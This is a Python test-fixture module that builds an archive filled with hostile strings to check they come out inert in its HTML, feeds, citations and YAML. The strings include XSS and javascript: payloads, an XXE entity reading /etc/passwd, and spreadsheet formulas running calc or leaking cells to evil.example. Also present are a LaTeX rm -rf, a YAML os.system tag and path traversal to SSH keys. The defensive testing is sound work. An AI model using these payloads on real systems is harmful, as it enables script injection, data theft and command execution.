"""Hostile text: strings written to break out of every format the archive reads or writes.

Each one is stored faithfully wherever a field accepts it, and must come out inert: as text in
HTML pages, feeds, data dumps, citation files and events/ files. Where a field refuses it (a
control character in a one-line field, a title longer than 300 characters), the refusal is one
``error:`` line. Invisible characters are written as escapes so that this file reads plainly.
"""

from __future__ import annotations

import tomllib
import unicodedata
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import tomli_w
import yaml
from click.testing import CliRunner
from conftest import ArchiveUnderTest

# Markup and script ---------------------------------------------------------------------------
MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(document.domain)</script>",
    "</SCRIPT ><!--<script>alert(1)//-->",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc=\"<script>alert('srcdoc')</script>\">",
    "<style>body{display:none}</style>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    '<a href="javascript:alert(1)">a link</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="https://evil.example/"><input name=x autofocus onfocus=alert(1)></form>',
    "<details open ontoggle=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "{{ 7*7 }} {% raw %}{{ config }}{# comment #}",
    "${alert(1)} #{7*7} <%= 7*7 %>",
)

# Markdown links and images with script schemes (in one-line fields they are plain text) -------
MARKDOWN = (
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](jav&#x61;script:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](file:///etc/passwd)",
    "![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![picture](javascript:alert(1))",
    "![picture](https://evil.example/track.png)",
    "<javascript:alert(1)>",
    "<data:text/html,alert(1)>",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    '[click][ref]\n\n[ref]: <jav&#x61;script:alert(1)> "title"',
    '[click](https://example.org/ "title\\" onmouseover=\\"alert(1)")',
    "**bold** _emphasis_ `code` <b>not bold</b> [a fine link](https://example.org/page?a=1&b=2)",
    "```<script>\nalert(1)\n```\n\n<script>alert(2)</script>",
    "    indented <script>alert(1)</script>\n\n> quoted <img src=x onerror=alert(1)>",
)

# Entities, XML feeds ---------------------------------------------------------------------------
ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt; &#60; &#x3C; &quot; &apos; &nbsp; &LT;b&GT;",
    "AT&T & Johnson & Johnson &",
    "&#0; &#xD800; &#1114112; &bogus;",
    "]]><script>alert(1)</script><![CDATA[",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
)

# Length, control characters, invisible and mixed scripts ---------------------------------------
LONG = (
    "A" * 10_000,
    "B" * 20_001,
    "<b>" * 3_000,
    "x" * 300,
    "y" * 301,
)
CONTROL = (
    "nul\x00byte",
    "bell\x07",
    "ansi \x1b[31mred\x1b[0m",
    "delete\x7f",
    "next line\x85here",
    "line\nbreak",
    "tab\tseparated",
    "carriage\rreturn",
    "windows\r\nline end",
    "form\x0cfeed\x0bvertical",
    "line\u2028separator\u2029paragraph",
    "lone surrogate \ud800",
    "non-character \uffff",
)
INVISIBLE = (
    "\u202egnp.exe",
    "abc \u202edcba\u202c def",
    "\u2066isolate\u2069 \u200fmark\u200e",
    "zero\u200bwidth\u200cnon\u200djoiner\u2060word\ufeffjoiner",
    "\ufeffbyte order mark",
    "中文 العربية 😀👩\u200d👩\u200d👧 עברית Ελληνικά",
    "Z\u0334\u0321\u031ba\u0335l\u0338g\u0337o\u0336 \U0001f4a9 \U0001d54f",
    "تويتر <script>alert(1)</script> يضيف",
    "  padded with spaces  ",
)

# Spreadsheet formulas --------------------------------------------------------------------------
FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''+1",
    "=1+1; =2+2",
)

# BibTeX, RIS -----------------------------------------------------------------------------------
CITATIONS = (
    "}",
    "{",
    "\\",
    "@misc{evil, title={pwned}}",
    "}, author = {Mallory",
    "\\input{/etc/passwd} \\write18{rm -rf /}",
    "%comment $math$ # _ ~ ^ \\\\ \\&",
    "--- en -- dash ``quotes'' ?` !` << >>",
    "text\nTY  - JOUR\nER  - ",
    "ER  - ",
)

# YAML ------------------------------------------------------------------------------------------
YAML = (
    "---",
    "key: value",
    "&anchor value *anchor",
    '!!python/object/apply:os.system ["echo pwned"]',
    "- list item",
    "\"double\" 'single'",
    "# not a comment",
    "NO",
    "2020-05-28",
    "null",
    "~",
    "0x10",
    "{a: 1, b: [2, 3]}",
    "? complex key",
    "| literal",
    "%YAML 1.1",
    "...\n---\ntitle: injected\n---",
)

# File names ------------------------------------------------------------------------------------
PATHS = ("../../etc/passwd", "..", "/abs", "C:\\x", "%2e%2e", "..\\..\\windows", "~/.ssh/id_rsa")

HOSTILE: tuple[str, ...] = (
    MARKUP + MARKDOWN + ENTITIES + LONG + CONTROL + INVISIBLE + FORMULAS + CITATIONS + YAML + PATHS
)

# Hostile settings: the archive's title is on every page and in every citation; extra kinds are
# badges, attributes, feed categories and citation genres.
SITE_TITLE = "Archive \"<script>alert('site')</script>\" & {co} =1+1"
KINDS = ('<img src=x onerror=alert("kind")>', '" onclick="alert(1)', "=HYPERLINK(1)", "} @misc{kind,")

# Addresses a source may not have: only http(s) with a host.
REJECTED_URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "jav&#x61;script:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "/relative/path",
    "https://",
    "http:javascript:alert(1)",
    "https://exa mple.org/",
    "https://example.org/\x00",
)

# The largest text each kind of field takes.
LINE_MAX = 300
SOURCE_TITLE_MAX = 1000
TEXT_MAX = 20_000


def _unacceptable(text: str, allowed: str) -> bool:
    """Characters no field takes: controls (but those allowed), surrogates, non-characters."""
    return any(
        (unicodedata.category(ch) == "Cc" and ch not in allowed)
        or unicodedata.category(ch) == "Cs"
        or (0xFDD0 <= ord(ch) <= 0xFDEF or (ord(ch) & 0xFFFE) == 0xFFFE)
        for ch in text
    )


def as_line(text: str, max_length: int = LINE_MAX) -> str | None:
    """What a one-line field stores for ``text``, or None where it must refuse it."""
    stored = text.strip()
    if not stored or len(stored) > max_length or _unacceptable(stored, "") or stored != " ".join(stored.splitlines()):
        return None
    return stored


def as_text(text: str) -> str | None:
    """What a multi-line field (summary, quotation, note, reason) stores, or None where it refuses it."""
    stored = text.replace("\r\n", "\n").strip()
    if not stored or len(stored) > TEXT_MAX or _unacceptable(stored, "\n\t"):
        return None
    return stored


def as_url(text: str) -> str | None:
    """A source address built around ``text``, where it makes a valid http(s) address."""
    url = "https://example.org/" + text.strip()
    if as_line(url, 2000) is None or any(ch.isspace() for ch in url):
        return None
    return url


# The hostile archive: every string through every field, by the real command line ------------


@dataclass
class Case:
    """One hostile string, what each kind of field stores for it, and the entries carrying it."""

    number: int
    text: str
    line: str | None  # what one-line fields store (None: they refuse it)
    source_title: str | None  # a source's title takes up to 1,000 characters
    prose: str | None  # what multi-line fields store (None: they refuse it)
    url: str | None  # a source address with the text in its path, where that is a valid address
    slug: str = ""  # the live entry with the text in every field that takes it
    retracted: str = ""  # an entry retracted with the text as its reason
    filed: str = ""  # an entry recorded from a file, with the text as an actor's role
    bundle: str = ""
    entry: dict[str, Any] = field(default_factory=dict)  # the live entry's fields as published

    @property
    def role(self) -> str:
        """The role given on the command line, where NAME:ROLE can carry it (no colon in it)."""
        return self.line if self.line is not None and ":" not in self.line else "witness"

    @property
    def editor(self) -> str:
        return self.line or "Benign Editor"

    @property
    def reason(self) -> str:
        return self.prose or f"benign reason {self.number}"


@dataclass
class HostileArchive:
    """The archive, its built site, and what each hostile string went into."""

    archive: ArchiveUnderTest
    out: Path
    cases: list[Case]


def make_case(number: int, text: str) -> Case:
    return Case(number, text, as_line(text), as_line(text, SOURCE_TITLE_MAX), as_text(text), as_url(text))


def _date(number: int) -> str:
    return f"{2019 + number % 2}-{1 + number % 12:02d}-{1 + number % 28:02d}"


def record_case(archive: ArchiveUnderTest, case: Case) -> None:
    """The entry carrying the text: recorded, corrected, given a second source; a companion entry
    retracted with it as the reason; a bundle titled with it; for a role with a colon, which
    NAME:ROLE cannot carry, an entry recorded from a file."""
    n, line, prose = case.number, case.line, case.prose
    name = line or f"Benign Actor {n}"
    first_source: dict[str, Any] = {
        "title": case.source_title or f"Benign source {n}",
        "publisher": line or "Benign Wire",
        "authors": [line or "A. Reporter"],
        "date": "2020-01",
        "language": "ar" if n % 3 == 0 else "en",
        "quote": prose or "benign quotation",
        "quote_by": line or "A. Speaker",
    }
    # A docket number is free text on one line, but never holds the ';' that separates identifiers.
    docket = line if line and ";" not in line and len(line) <= 200 else f"Benign Ct. No. {n}"
    if case.url:
        first_source["url"] = case.url
        first_source["archived_url"] = "https://web.archive.org/web/2020/" + case.url
    added = archive.json(
        "add", "--title", line or f"Hostile entry {n}", "--kind", KINDS[n % len(KINDS)], "--date", _date(n),
        "--summary", prose or f"Benign summary {n}.", "--actor", f"{name}:{case.role}",
        "--platform", line or "Benign Platform", "--topic", line or "benign topic",
        "--jurisdiction", line or "Benign Land", "--identifier", f"docket:{docket}",
        "--source-title", first_source["title"], "--source-publisher", first_source["publisher"],
        "--source-author", first_source["authors"][0], "--source-date", first_source["date"],
        "--source-language", first_source["language"], "--source-quote", first_source["quote"],
        "--source-quote-by", first_source["quote_by"],
        *(("--source-url", case.url, "--source-archived-url", first_source["archived_url"]) if case.url else ()),
        "--reason", case.reason, "--allow-duplicate",
    )  # fmt: skip
    case.slug = added["slug"]
    archive.ok(
        "correct", case.slug, "--kind", KINDS[(n + 1) % len(KINDS)], "--reason", case.reason, "--editor", case.editor
    )
    second_source = {
        "title": case.source_title or f"Second benign source {n}",
        "publisher": line or "Second Wire",
        "date": "2019",
        "note": prose or "benign note",
        "accessed": "2020-01-02",
    }
    source = archive.json(
        "source", "add", case.slug, "--title", second_source["title"], "--publisher", second_source["publisher"],
        "--date", second_source["date"], "--note", second_source["note"], "--accessed", second_source["accessed"],
        "--reason", case.reason, "--editor", case.editor,
    )  # fmt: skip
    case.entry = {
        "title": line or f"Hostile entry {n}",
        "kind": KINDS[(n + 1) % len(KINDS)],
        "summary": prose or f"Benign summary {n}.",
        "actors": [{"name": name, "role": case.role}],
        "platforms": [line or "Benign Platform"],
        "topics": [line or "benign topic"],
        "jurisdictions": [line or "Benign Land"],
        "identifiers": [{"scheme": "docket", "value": docket}],
        "sources": [first_source, second_source],
    }
    shown = _fields(source) | {"sources": _without_accessed(source["sources"], 0)}
    assert shown == case.entry, f"{case.text!r}: the command stored {shown}, not {case.entry}"
    if prose is not None:
        case.retracted = archive.add(f"Retracted companion {n}", _date(n), "statement", "--allow-duplicate")["slug"]
        archive.ok("retract", case.retracted, "--reason", prose)
    if line is not None:
        case.bundle = f"hostile-{n}"
        pinned = (case.slug, case.retracted) if case.retracted else (case.slug,)
        archive.ok("bundle", "create", case.bundle, *pinned, "--title", line)
    if line is not None and ":" in line:
        entry_file = archive.root / f"filed-{n}.md"
        front = {"title": f"Filed entry {n}", "kind": "statement", "date": _date(n),
                 "actors": [{"name": line, "role": line}], "sources": [{"title": line}]}  # fmt: skip
        entry_file.write_text(f"---\n{yaml.safe_dump(front, allow_unicode=True)}---\n{prose or ''}\n")
        case.filed = archive.json("add", "--from-file", str(entry_file), "--allow-duplicate")["slug"]
        entry_file.unlink()


def _fields(entry: dict[str, Any]) -> dict[str, Any]:
    return {key: entry[key] for key in ("title", "kind", "summary", "actors", "platforms", "topics",
                                        "jurisdictions", "identifiers", "sources")}  # fmt: skip


def _without_accessed(sources: list[dict[str, Any]], index: int) -> list[dict[str, Any]]:
    """The first source's access date is the day it was recorded: the day the test runs."""
    return [{k: v for k, v in s.items() if not (i == index and k == "accessed")} for i, s in enumerate(sources)]


def build_hostile_archive(root: Path) -> HostileArchive:
    """An archive with a hostile title and kinds, every string in every field, and its site built."""
    archive = ArchiveUnderTest(root=root / "archive", store_url=None, runner=CliRunner())
    archive.ok("init", str(archive.root), "--title", SITE_TITLE)
    settings = tomllib.loads((archive.root / "timeline.toml").read_text(encoding="utf-8"))
    settings["kinds"] = list(KINDS)
    (archive.root / "timeline.toml").write_text(tomli_w.dumps(settings), encoding="utf-8")
    cases = [make_case(number, text) for number, text in enumerate(HOSTILE)]
    for case in cases:
        if case.line or case.prose:  # text no field takes is only refused (see test_hostile_input.py)
            record_case(archive, case)
    out = root / "site"
    archive.ok("build", "--out", str(out))
    return HostileArchive(archive, out, cases)
